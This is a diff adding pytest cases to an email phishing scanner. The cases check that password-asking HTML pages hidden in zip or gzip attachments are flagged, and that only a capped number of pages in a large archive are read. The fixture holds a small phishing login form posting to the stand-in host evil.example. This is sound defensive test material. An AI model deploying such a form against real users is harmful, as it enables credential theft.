@@ -3,16 +3,22 @@
 from __future__ import annotations
 
 import base64
+import gzip
+import io
 import re
+import zipfile
 
 import pytest
 
+from pipeline.scanning.builtin import BuiltIn, papers
 from pipeline.scanning.builtin.phishing import Phishing
 from pipeline.scanning.builtin.tables import brands, words
 from pipeline.scanning.engine import Report
+from pipeline.scanning.files.octets import MAX_PAGES
 from pipeline.scanning.policy import judge
 from pipeline.settings import Settings
 from tests.support.deceiving import mail
+from tests.support.mail import HEAD, OURS, attachment, multipart
 
 LOOK = Phishing().look
 TEXT = "Please verify your account within 24 hours, it will be suspended otherwise."
@@ -292,3 +298,39 @@ def test_messages_in_files_in_messages_are_read_as_far_as_parts_go():
         inner = b'Content-Type: text/plain; name="a.eml"\r\n\r\n' + inner
     looked_at = mail(inner)
     assert 100 <= len(looked_at.parts) <= 105
+
+
+LOGIN = b"<html><form action=https://evil.example/><input name=u><input type=password></form></html>"
+
+
+def packed(files: dict[str, bytes]) -> bytes:
+    out = io.BytesIO()
+    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
+        for name, octets in files.items():
+            archive.writestr(name, octets)
+    return out.getvalue()
+
+
+@pytest.mark.parametrize(
+    "octets",
+    [
+        packed({"invoice.html": LOGIN}),
+        packed({"a": LOGIN}),
+        packed({"a.zip": packed({"b.htm": LOGIN})}),
+        gzip.compress(LOGIN),
+    ],
+)
+def test_a_page_within_an_archive_that_asks_for_a_password_is_found(octets):
+    found = BuiltIn(Settings(), OURS).look(mail(HEAD + multipart([attachment(octets, "a.zip")])))
+    assert [(one.score, one.kind) for one in found if one.name == "HTML_PASSWORD"] == [(3.5, "phishing")]
+
+
+def test_of_the_pages_within_an_archive_some_are_read(monkeypatch):
+    read = []
+    whole = papers.page_of
+    monkeypatch.setattr(papers, "page_of", lambda octets: read.append(octets) or whole(octets))
+    octets = packed({f"{number}.html": b"<html>%d</html>" % number for number in range(200)})
+    assert "HTML_PASSWORD" not in {
+        one.name for one in BuiltIn(Settings(), OURS).look(mail(HEAD + multipart([attachment(octets, "a.zip")])))
+    }
+    assert len(read) == MAX_PAGES
